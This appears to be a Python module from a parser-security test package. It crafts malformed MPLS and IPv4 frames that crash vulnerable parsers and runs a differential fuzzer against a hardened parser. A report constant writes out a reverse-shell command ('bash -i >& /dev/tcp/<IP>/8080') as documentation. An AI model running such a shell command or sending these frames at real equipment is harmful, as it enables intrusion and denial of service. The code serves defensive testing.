"""Attack-frame crafting, constrained payload encoding, and differential fuzzing.

craft() builds the three malformed frames the vulnerable parsers trip over: an
oversized unterminated label stack, an undersized (sub-4-octet) stack, and an
IPv4 datagram whose total length underflows the header length. encode_payload()
packs arbitrary bytes into label stack entries under the delivery constraint
that every entry's bottom-of-stack flag must be clear; a chunk whose bytes
would set that flag cannot be carried and is rejected.

diff_fuzz() drives a deterministic mutation stream through every parser
profile, classifies the corruption events the vulnerable profiles emit, checks
the hardened parser stays silent, and flags any flow-key disagreement between
profiles on frames that triggered nothing.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Iterator, Sequence

from .extract import (
    ParserMode,
    ParserProfile,
    VulnClass,
    classify_events,
    extract,
)
from .packet import (
    ETHERNET_HEADER_LEN,
    ETHERTYPE_IPV4,
    ETHERTYPE_MPLS_UNICAST,
    MPLS_ETHERTYPES,
    EthernetHeader,
    Ipv4Header,
    MplsLse,
    RawFrame,
    TextEnum,
    decode_lse,
    encode_frame,
    enum_by_value,
)
from .pcap import SNAPLEN

DEFAULT_LONG_SHIM_SIZE = 1514
CRAFT_SRC_MAC = bytes.fromhex("020000000001")
CRAFT_DST_MAC = bytes.fromhex("020000000002")
CRAFT_SRC_IP = 0x0A000001  # 10.0.0.1
CRAFT_DST_IP = 0x0A000002  # 10.0.0.2
_FILLER_LSE = MplsLse(label=0, exp=0, bottom_of_stack=False, ttl=64)
_SHORT_FRAGMENT = b"\x12\x34\x56"

STRATEGIES = ("bitflip", "byteflip", "field-splice", "length-truncate", "lse-duplicate")

# Reproduced in reports as inert documentation of what the historical payload
# did; nothing in this package executes or emits it.
REMOTE_SHELL_NOTE = 'historical payload spawned: bash -i >& /dev/tcp/<IP>/8080 (never executed here)'


class PayloadTooLarge(ValueError):
    """Payload needs more label stack entries than the frame budget allows."""


class PayloadViolatesConstraint(ValueError):
    """A 4-octet chunk would set the bottom-of-stack flag."""

    def __init__(self, chunk_index: int) -> None:
        super().__init__(f"chunk {chunk_index} has its S-position bit set")
        self.chunk_index = chunk_index


class AttackKind(TextEnum):
    LONG_SHIM = "long-shim"
    SHORT_SHIM = "short-shim"
    ACL_BYPASS = "acl-bypass"


def attack_kind(name: str) -> AttackKind:
    return enum_by_value(AttackKind, name, "attack kind")


@dataclass(frozen=True)
class AttackSpec:
    """Parameters for one crafted frame.

    frame_size drives the long-shim label count (floor((size-14)/4) entries);
    fragment_len the short-shim trailing stub; total_length and the ports the
    malformed IPv4 frame. A long-shim frame must fit a pcap record
    (frame_size <= SNAPLEN).
    """

    kind: AttackKind
    frame_size: int = DEFAULT_LONG_SHIM_SIZE
    fragment_len: int = 2
    total_length: int = 0
    sport: int = 1234
    dport: int = 8080
    payload: bytes | None = None

    def __post_init__(self) -> None:
        if self.kind is AttackKind.LONG_SHIM and self.label_count < 1:
            raise ValueError(f"frame_size {self.frame_size} leaves no room for a label stack")
        if self.kind is AttackKind.LONG_SHIM and self.frame_size > SNAPLEN:
            raise ValueError(f"frame_size {self.frame_size} exceeds the pcap snaplen {SNAPLEN}")
        if self.kind is AttackKind.SHORT_SHIM and self.fragment_len not in (1, 2, 3):
            raise ValueError(f"fragment_len must be 1..3, got {self.fragment_len}")
        if not 0 <= self.total_length <= 0xFFFF:
            raise ValueError(f"total_length {self.total_length} exceeds 16 bits")
        for name in ("sport", "dport"):
            if not 0 <= getattr(self, name) <= 0xFFFF:
                raise ValueError(f"{name} exceeds 16 bits")

    @property
    def label_count(self) -> int:
        return (self.frame_size - ETHERNET_HEADER_LEN) // 4


def encode_payload(data: bytes) -> list[MplsLse]:
    """Pack data into label stack entries, 4 octets per entry.

    Every produced entry has the bottom-of-stack flag clear; a chunk whose
    S-position bit is set is rejected with its index. Re-encoding the result
    reproduces the input exactly.
    """
    if len(data) % 4:
        raise ValueError(f"payload length {len(data)} not divisible by 4; caller pads")
    lses = []
    for index in range(0, len(data), 4):
        chunk = data[index : index + 4]
        if chunk[2] & 1:
            raise PayloadViolatesConstraint(index // 4)
        lses.append(decode_lse(chunk))
    return lses


def craft(spec: AttackSpec) -> RawFrame:
    """Build the attack frame described by spec. Timestamps stay zero."""
    if spec.kind is AttackKind.LONG_SHIM:
        count = spec.label_count
        if spec.payload is not None:
            padded = spec.payload + bytes(-len(spec.payload) % 4)
            lses = encode_payload(padded)
            if len(lses) > count:
                raise PayloadTooLarge(
                    f"payload needs {len(lses)} entries, frame budget is {count}"
                )
            lses += [_FILLER_LSE] * (count - len(lses))
        else:
            lses = [_FILLER_LSE] * count
        eth = EthernetHeader(CRAFT_DST_MAC, CRAFT_SRC_MAC, ETHERTYPE_MPLS_UNICAST)
        return encode_frame(eth, lses)

    if spec.kind is AttackKind.SHORT_SHIM:
        eth = EthernetHeader(CRAFT_DST_MAC, CRAFT_SRC_MAC, ETHERTYPE_MPLS_UNICAST)
        return RawFrame.of(eth.encode() + _SHORT_FRAGMENT[: spec.fragment_len])

    eth = EthernetHeader(CRAFT_DST_MAC, CRAFT_SRC_MAC, ETHERTYPE_IPV4)
    ip = Ipv4Header(
        total_length=spec.total_length,
        protocol=17,
        src_ip=CRAFT_SRC_IP,
        dst_ip=CRAFT_DST_IP,
    )
    ports = spec.sport.to_bytes(2, "big") + spec.dport.to_bytes(2, "big")
    return encode_frame(eth, [ip], payload=ports)


@dataclass(frozen=True)
class MutationBudget:
    """How much mutation to perform and with which strategies.

    The stream is a pure function of (corpus, seed, strategies): identical
    inputs give identical mutants. iterations=0 means no mutants (the fuzzer
    still evaluates the seed corpus itself).
    """

    iterations: int
    seed: int = 0
    max_len: int = 9216
    strategies: frozenset[str] = frozenset(STRATEGIES)

    def __post_init__(self) -> None:
        if self.iterations < 0:
            raise ValueError("iterations must be >= 0")
        if self.max_len < 1:
            raise ValueError("max_len must be >= 1")
        unknown = set(self.strategies) - set(STRATEGIES)
        if unknown:
            raise ValueError(f"unknown strategies: {sorted(unknown)}")
        if not self.strategies:
            raise ValueError("at least one strategy required")


def mutate(corpus: Sequence[RawFrame], budget: MutationBudget) -> Iterator[RawFrame]:
    """Yield budget.iterations deterministic mutants of the corpus.

    bitflip walks bit positions sequentially per seed frame, so a small budget
    enumerates distinct single-bit variants instead of colliding randomly.
    length-truncate either cuts the frame short or, on an IPv4 frame, shrinks
    the claimed total length. lse-duplicate re-inserts the top label stack
    entry. Strategies that do not apply to the chosen frame fall back to
    byteflip so every iteration yields a mutant. Empty frames are skipped:
    no strategy can mutate zero octets.
    """
    return _mutation_stream(_non_empty(corpus), budget)


def _non_empty(corpus: Sequence[RawFrame]) -> tuple[RawFrame, ...]:
    """The corpus without its empty frames; raises ValueError when nothing is left."""
    seeds = tuple(frame for frame in corpus if frame.data)
    if not seeds:
        raise ValueError("corpus must be non-empty")
    return seeds


def _mutation_stream(corpus: tuple[RawFrame, ...], budget: MutationBudget) -> Iterator[RawFrame]:
    rng = random.Random(budget.seed)
    strategies = sorted(budget.strategies)
    bit_cursors = [0] * len(corpus)

    for _ in range(budget.iterations):
        idx = rng.randrange(len(corpus)) if len(corpus) > 1 else 0
        strategy = strategies[rng.randrange(len(strategies))] if len(strategies) > 1 else strategies[0]
        buf = bytearray(corpus[idx].data)

        if strategy == "lse-duplicate":
            ethertype = (buf[12] << 8) | buf[13] if len(buf) >= 14 else 0
            if ethertype in MPLS_ETHERTYPES and len(buf) >= 18:
                buf[14:14] = buf[14:18]
            else:
                strategy = "byteflip"
        if strategy == "field-splice":
            other = corpus[rng.randrange(len(corpus))].data
            limit = min(len(buf), len(other))
            if limit >= 2:
                offset = rng.randrange(limit)
                span = min(rng.choice((1, 2, 4, 6)), limit - offset)
                buf[offset : offset + span] = other[offset : offset + span]
            else:
                strategy = "byteflip"
        if strategy == "length-truncate":
            ethertype = (buf[12] << 8) | buf[13] if len(buf) >= 14 else 0
            if ethertype == ETHERTYPE_IPV4 and len(buf) >= 34 and rng.random() < 0.5:
                old = (buf[16] << 8) | buf[17]
                new = rng.randrange(old) if old else 0
                buf[16:18] = new.to_bytes(2, "big")
            elif len(buf) > 1:
                del buf[rng.randrange(1, len(buf)) :]
            else:
                strategy = "byteflip"
        if strategy == "bitflip":
            pos = bit_cursors[idx] % (len(buf) * 8)
            bit_cursors[idx] += 1
            buf[pos >> 3] ^= 0x80 >> (pos & 7)
        elif strategy == "byteflip":
            buf[rng.randrange(len(buf))] ^= 0xFF

        del buf[budget.max_len :]
        yield RawFrame(bytes(buf), len(buf))


@dataclass
class FuzzReport:
    """Differential fuzzing outcome: counts, exemplars, violations."""

    profiles: tuple[ParserProfile, ...]
    seed_count: int
    mutant_count: int
    class_counts: dict[VulnClass, int] = field(default_factory=dict)
    exemplars: dict[VulnClass, RawFrame] = field(default_factory=dict)
    equivalence_violations: int = 0
    violation_exemplar: RawFrame | None = None
    hardened_event_count: int = 0
    empty_seeds: int = 0

    @property
    def has_failures(self) -> bool:
        return self.hardened_event_count > 0 or self.equivalence_violations > 0

    def to_text(self) -> str:
        lines = ["profiles=" + ",".join(p.mode.value for p in self.profiles), f"seeds={self.seed_count}"]
        if self.empty_seeds:
            lines.append(f"empty_seeds_skipped={self.empty_seeds}")
        lines += [f"mutants={self.mutant_count}", f"frames_evaluated={self.seed_count + self.mutant_count}"]
        for cls in (VulnClass.LONG_STACK_232, VulnClass.SHORT_LSE_240, VulnClass.IP_UNDERFLOW_250):
            count = self.class_counts.get(cls, 0)
            exemplar = self.exemplars.get(cls)
            suffix = f" exemplar_len={exemplar.capture_len}" if exemplar is not None else ""
            lines.append(f"class={cls} count={count}{suffix}")
        lines.append(f"equivalence_violations={self.equivalence_violations}")
        lines.append(f"hardened_events={self.hardened_event_count}")
        lines.append(f"note={REMOTE_SHELL_NOTE}")
        return "\n".join(lines) + "\n"

    def exemplar_frames(self) -> list[RawFrame]:
        ordered = sorted(self.exemplars.items(), key=lambda item: item[0].value)
        frames = [frame for _, frame in ordered]
        if self.violation_exemplar is not None:
            frames.append(self.violation_exemplar)
        return frames


def _frame_triggers(data: bytes, cls: VulnClass, profiles: Sequence[ParserProfile]) -> bool:
    if not data:
        return False
    frame = RawFrame(data, len(data))
    for profile in profiles:
        result = extract(frame, 0, profile)
        if result.events and classify_events(result.events) is cls:
            return True
    return False


def minimize(frame: RawFrame, cls: VulnClass, profiles: Sequence[ParserProfile]) -> RawFrame:
    """Greedy 1-octet suffix-then-prefix truncation while the class persists."""
    data = frame.data
    while len(data) > 1 and _frame_triggers(data[:-1], cls, profiles):
        data = data[:-1]
    while len(data) > 1 and _frame_triggers(data[1:], cls, profiles):
        data = data[1:]
    return RawFrame(data, len(data))


def diff_fuzz(
    corpus: Sequence[RawFrame],
    budget: MutationBudget,
    profiles: Sequence[ParserProfile],
) -> FuzzReport:
    """Run the seed corpus plus its mutation stream through every profile.

    Corruption events are classified and counted per class; the smallest
    (then lexicographically first) triggering frame per class is kept and
    minimized. Frames that trigger no profile must produce identical flow
    keys everywhere; any divergence is an equivalence violation. The merge
    rules (commutative counts, smallest-then-lexicographic exemplars) make
    the report independent of evaluation order. Empty seed frames cannot be
    extracted or mutated; they are skipped and counted in ``empty_seeds``.
    """
    profiles = tuple(profiles)
    if not any(p.mode is ParserMode.HARDENED for p in profiles):
        raise ValueError("profiles must include the hardened parser")
    if not any(p.mode is not ParserMode.HARDENED for p in profiles):
        raise ValueError("profiles must include at least one vulnerable parser")
    seeds = _non_empty(corpus)

    class_counts: dict[VulnClass, int] = {}
    candidates: dict[VulnClass, tuple[int, bytes]] = {}
    hardened_events = 0
    violations = 0
    violation_best: tuple[int, bytes] | None = None

    def consider(frame: RawFrame) -> None:
        nonlocal hardened_events, violations, violation_best
        results = [extract(frame, 0, profile) for profile in profiles]
        saw_event = False
        for profile, result in zip(profiles, results):
            if not result.events:
                continue
            saw_event = True
            if profile.mode is ParserMode.HARDENED:
                hardened_events += 1
            cls = classify_events(result.events)
            class_counts[cls] = class_counts.get(cls, 0) + 1
            rank = (frame.capture_len, frame.data)
            if cls not in candidates or rank < candidates[cls]:
                candidates[cls] = rank
        if not saw_event:
            first = results[0].key
            if any(r.key != first for r in results[1:]):
                violations += 1
                rank = (frame.capture_len, frame.data)
                if violation_best is None or rank < violation_best:
                    violation_best = rank

    for frame in seeds:
        consider(frame)
    for frame in mutate(seeds, budget):
        consider(frame)

    exemplars = {
        cls: minimize(RawFrame(data, len(data)), cls, profiles)
        for cls, (_, data) in candidates.items()
    }
    return FuzzReport(
        profiles=profiles,
        seed_count=len(seeds),
        mutant_count=budget.iterations,
        class_counts=class_counts,
        exemplars=exemplars,
        equivalence_violations=violations,
        violation_exemplar=RawFrame(violation_best[1], violation_best[0]) if violation_best else None,
        hardened_event_count=hardened_events,
        empty_seeds=len(corpus) - len(seeds),
    )
